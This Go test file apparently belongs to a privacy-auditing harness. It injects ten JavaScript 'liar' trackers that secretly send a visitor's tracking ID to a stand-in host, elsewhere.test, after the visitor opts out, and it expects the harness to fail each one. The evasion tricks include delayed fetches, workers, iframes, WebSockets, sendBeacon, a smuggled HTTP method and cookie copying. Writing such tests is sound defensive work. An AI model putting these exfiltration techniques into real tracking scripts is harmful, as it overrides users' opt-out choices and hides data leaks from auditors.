package e2e_test

import (
	g "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/pixelwitness/pixelwitness/reference/tracker"
	"github.com/pixelwitness/pixelwitness/simulator/browser"
	"github.com/pixelwitness/pixelwitness/simulator/suite"
	"github.com/pixelwitness/pixelwitness/simulator/verdict"
)

// lair comes before each liar: it reads the ever-id from before the opt-out while
// the cookie is there, and tells whether the page is loaded while the visitor is anonymous.
const lair = `
const anonymous = /miCookieOptOut=1/.test(document.cookie);
const stored = () => (document.cookie.match(/wtstp_eid=(\d+)/) || [])[1];
const seen = stored();
const kept = () => seen || stored();
const leak = () => fetch('https://elsewhere.test/leak', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'v=' + kept() });
`

// liars are trackers that do all that is promised, and leak the ever-id besides.
var liars = map[string]string{
	"at the click":                  `addEventListener('click', (e) => { if (e.target.closest('#opt-out')) leak(); }, true);`,
	"half a minute after the click": `addEventListener('click', (e) => { if (e.target.closest('#opt-out')) setTimeout(leak, 30000); }, true);`,
	"after a chain of requests":     `if (anonymous) fetch('/').then(() => fetch('/')).then(() => fetch('/')).then(leak);`,
	"from a worker, a minute later": `if (anonymous) new Worker(URL.createObjectURL(new Blob(["setTimeout(() => fetch('https://elsewhere.test/leak', {method: 'POST', mode: 'no-cors', body: '" + kept() + "'}), 60000)"])));`,
	"from a frame, later":           `if (anonymous) addEventListener('load', () => { const f = document.createElement('iframe'); f.srcdoc = "<script>setTimeout(() => fetch('https://elsewhere.test/leak?v=" + kept() + "', {mode: 'no-cors'}), 5000)</" + "script>"; document.body.append(f); });`,
	"in a second message":           `if (anonymous) { const s = new WebSocket('wss://elsewhere.test/'); s.onopen = () => { s.send('hello'); setTimeout(() => s.send(kept()), 3000); }; }`,
	"as it leaves":                  `if (anonymous) addEventListener('pagehide', () => navigator.sendBeacon('https://elsewhere.test/leak', kept()));`,
	"as a made-up method":           `if (anonymous) fetch('/x', { method: 'V' + kept() });`,
	"under the harness's own path":  `if (anonymous) fetch('/.pixelwitness/fence/' + kept());`,
	"into another cookie":           `if (anonymous) document.cookie = 'mine=' + kept() + '; max-age=9999999; path=/';`,
}

var _ = g.Describe("a tracker that leaks the ever-id", func() {
	for name, liar := range liars {
		g.It("is never passed when it does so "+name, func(ctx g.SpecContext) {
			bundle, err := tracker.Bundle("mapp", tracker.Options{})
			Expect(err).NotTo(HaveOccurred())
			o := options(browser.Shell)
			o.Script = &suite.Script{Name: name, Source: []byte("(() => {" + lair + liar + "})();\n" + string(bundle.Source))}
			visit := walk(ctx, o)
			Expect(visit.Evidence.Faults).To(BeEmpty())
			Expect(visit.Scenario.Outcome).To(Equal(verdict.Fail))
		}, g.SpecTimeout(patience))
	}
})
